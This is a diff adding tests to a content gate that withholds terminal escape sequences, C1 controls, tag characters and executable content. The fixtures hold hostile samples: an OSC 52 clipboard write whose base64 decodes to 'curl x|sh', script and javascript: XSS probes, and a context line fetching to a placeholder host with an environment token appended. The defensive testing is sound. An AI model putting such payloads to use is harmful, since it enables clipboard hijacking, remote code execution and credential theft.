@@ -142,6 +142,67 @@ describe('each consumer judges the bodies it reads, and only while it is in the 
   });
 });
 
+// Terminals (issue 41): hosts print tool results to terminals, where ESC, OSC and C1 act, so the default profile
+// withholds text holding them; a host that never prints a body to one (a GUI-only host) leaves `terminal` out and
+// gets ordinary bundles whose string literals hold ESC (pdf.js's worker, a CLI's colour table), every other check kept.
+describe('terminal is a consumer of its own, in the default profile', () => {
+  const worker = readFileSync(path.join(repoRoot, 'node_modules/pdfjs-dist/build/pdf.worker.min.mjs'), 'utf8');
+  const withoutTerminal = defaultConsumerIds.filter((id) => id !== 'terminal');
+  const controls: [string, string][] = [
+    ['an escape sequence', 'build \u001b[32mok\u001b[0m\n'],
+    ['an osc 52 clipboard write', 'done\u001b]52;c;Y3VybCB4fHNo\u0007\n'],
+    ['a c1 control sequence introducer', 'done \u009b2J\n'],
+    ['a c0 control a terminal acts on', 'done\b\b\b\bfail\n'],
+  ];
+
+  test('the default profile names it', () => {
+    expect(defaultConsumerIds).toContain('terminal');
+    expect(optInConsumerIds).not.toContain('terminal');
+  });
+
+  test.each(controls)('%s in text is withheld by the default profile and allowed without terminal', async (_, text) => {
+    for (const [uri, mime] of [
+      ['guide://d/build.log', 'text/plain'],
+      ['guide://d/notes.md', 'text/markdown'],
+      ['guide://d/data.csv', 'text/csv'],
+    ] as const) {
+      const body = { text };
+      const shipped = await effect(gateWith(), uri, mime, body);
+      expect(shipped.effect, `${uri}: ${shipped.why}`).toBe('partial');
+      expect(shipped.why).toMatch(/content\.unsafe-text: .*(terminal escape|c1 control|a terminal acts on)/);
+      expect(await effect(gateWith(withoutTerminal), uri, mime, body), uri).toEqual({ effect: 'allow', why: '' });
+    }
+  });
+
+  test("pdf.js's worker bundle (ESC in its string literals) is withheld by the default profile and allowed without terminal", async () => {
+    expect(worker).toContain('\u001b');
+    const shipped = await effect(gateWith(), 'guide://d/pdf.worker.min.mjs', 'text/plain', { text: worker });
+    expect(shipped.effect).toBe('partial');
+    expect(shipped.why).toMatch(/^content\.unsafe-text: item 0: text holds terminal escape sequences/);
+    expect(
+      await effect(gateWith(withoutTerminal), 'guide://d/pdf.worker.min.mjs', 'text/plain', { text: worker }),
+    ).toEqual({ effect: 'allow', why: '' });
+  });
+
+  test.each([
+    ['a nul', 'text/plain', 'a\u0000b\u001b[2J\n', /content\.unsafe-text: .*nul characters/],
+    [
+      'unicode tag characters',
+      'text/plain',
+      `hi \u{E0069}\u{E0067}\u{E006E} \u001b[2J\n`,
+      /content\.unsafe-text: .*tag characters/,
+    ],
+    ['a script in a page', 'text/plain', '<p>x</p><script>alert(1)</script>\u001b[2J', /content\.executable/],
+    ['a markdown script link', 'text/markdown', '[x](javascript:alert(1)) \u001b[2J\n', /content\.executable/],
+    ['a shebang script', 'text/plain', '#!/bin/sh\nprintf "\u001b[2J"\n', /content\.executable/],
+  ])('without terminal, %s beside an escape is still withheld', async (_, mime, text, reason) => {
+    const verdict = await effect(gateWith(withoutTerminal), 'guide://d/notes', mime, { text });
+    expect(verdict.effect).not.toBe('allow');
+    expect(verdict.why).toMatch(reason);
+    expect(verdict.why).not.toMatch(/terminal escape/);
+  });
+});
+
 describe('mdx and vitepress are opt-in', () => {
   const mdx = 'export const meta = fetch("https://example.invalid/" + process.env.TOKEN)\n\n# Hi\n';
   const vue = '# Hi\n\n<div v-html="payload"></div>\n';
